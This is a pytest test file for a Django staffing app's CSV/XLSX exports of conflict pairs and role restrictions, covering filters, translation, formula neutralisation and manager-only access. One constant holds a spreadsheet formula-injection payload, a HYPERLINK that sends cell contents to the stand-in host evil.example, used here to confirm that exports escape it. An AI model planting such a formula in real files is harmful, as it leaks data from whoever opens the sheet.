"""The forbidden pairs as CSV/XLSX (`staffing-conflicts`, `staffing-restrictions`): their
rows, filters and language, formula-like text neutralised, and programme leaders and
administrators only."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from django.core.management import CommandError, call_command
from django.http import QueryDict
from django.utils import translation
from openpyxl import load_workbook

from hexad.accounts.tests.factories import AccountFactory
from hexad.core.exceptions import AccessDenied
from hexad.core.exports import ExportQuery, export_rows, list_export
from hexad.people.tests.factories import DepartmentFactory, PersonFactory
from hexad.roles.models import Role
from hexad.staffing import services
from hexad.staffing.tests.factories import ConflictFactory

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"click")'
CONFLICT_HEADER = ["Account", "Account external id", "Person", "Email", "Note"]


@pytest.fixture
def pairs(db: None) -> Any:
    alfa = AccountFactory(name="Alfa", external_id="KA-1")
    beta = AccountFactory(name="Beta", external_id="")
    ann = PersonFactory(full_name="Ann Nowak", email="ann@example.com")
    ben = PersonFactory(full_name="Ben Lis", email="")
    ConflictFactory(person=ben, account=beta, note="Brother on the board")
    ConflictFactory(person=ann, account=beta, note=PAYLOAD)
    ConflictFactory(person=ann, account=alfa, note="")
    services.restriction_create(
        department=DepartmentFactory(name="Sales"), role=Role.objects.get(key="innovator")
    )
    services.restriction_create(
        department=DepartmentFactory(name="Legal"), role=Role.objects.get(key="results-driver")
    )
    return {"alfa": alfa, "beta": beta, "ann": ann, "ben": ben}


def rows(name: str, user: Any, **params: str) -> list[list[Any]]:
    query = QueryDict(mutable=True)
    for key, value in params.items():
        query[key] = value
    return [list(row) for row in export_rows(list_export(name), ExportQuery(user, query))]


def command_csv(tmp_path: Path, name: str, *args: str) -> list[list[str]]:
    target = tmp_path / f"{name}.csv"
    call_command("export", name, *args, "-o", str(target), "--quiet")
    return list(csv.reader(io.StringIO(target.read_text(encoding="utf-8-sig"))))


def test_conflicts_export_every_pair_by_account_then_person(tmp_path, pairs) -> None:
    assert command_csv(tmp_path, "staffing-conflicts") == [
        CONFLICT_HEADER,
        ["Alfa", "KA-1", "Ann Nowak", "ann@example.com", ""],
        ["Beta", "", "Ann Nowak", "ann@example.com", "'" + PAYLOAD],
        ["Beta", "", "Ben Lis", "", "Brother on the board"],
    ]


def test_the_conflicts_export_keeps_the_filters(leader, pairs) -> None:
    by_account = rows("staffing-conflicts", leader, account=str(pairs["alfa"].pk))
    by_person = rows("staffing-conflicts", leader, person=str(pairs["ben"].pk))
    by_text = rows("staffing-conflicts", leader, q="ben")
    unreadable = rows("staffing-conflicts", leader, account="x")

    assert [row[:3] for row in by_account[1:]] == [["Alfa", "KA-1", "Ann Nowak"]]
    assert [row[:3] for row in by_person[1:]] == [["Beta", "", "Ben Lis"]]
    assert [row[:3] for row in by_text[1:]] == [["Beta", "", "Ben Lis"]]
    assert len(unreadable) == 4  # a value no id reads filters nothing


def test_a_formula_in_a_note_is_text_in_xlsx(tmp_path, pairs) -> None:
    target = tmp_path / "conflicts.xlsx"
    call_command("export", "staffing-conflicts", "--format", "xlsx", "-o", str(target), "--quiet")

    sheet = load_workbook(target).active
    cell = sheet.cell(row=3, column=5)
    assert (cell.value, cell.data_type, cell.quotePrefix) == (PAYLOAD, "s", True)
    assert sheet.title == "Staffing conflicts"


def test_restrictions_export_by_department_with_role_names_in_the_language(
    tmp_path, admin_user, pairs
) -> None:
    assert command_csv(tmp_path, "staffing-restrictions") == [
        ["Department", "Role"],
        ["Legal", "Results Driver"],
        ["Sales", "Innovator"],
    ]
    with translation.override("pl"):
        polish = rows("staffing-restrictions", admin_user)
    assert polish == [["Dział", "Rola"], ["Legal", "Motor wyników"], ["Sales", "Innowator"]]


@pytest.mark.parametrize("name", ["staffing-conflicts", "staffing-restrictions"])
@pytest.mark.parametrize("persona", ["member", "viewer", "lead"])
def test_only_managers_export_the_forbidden_pairs(tmp_path, request, pairs, name, persona) -> None:
    user = request.getfixturevalue(persona)

    with pytest.raises(AccessDenied):
        rows(name, user)
    with pytest.raises(CommandError, match=f"{persona} may not export the {name} list"):
        call_command("export", name, "--user", persona, "-o", str(tmp_path / "x.csv"))
    assert not (tmp_path / "x.csv").exists()


def test_the_command_names_both_lists() -> None:
    out = io.StringIO()
    call_command("export", "--lists", stdout=out)
    assert "staffing-conflicts Staffing conflicts" in out.getvalue()
    assert "staffing-restrictions Role restrictions" in out.getvalue()
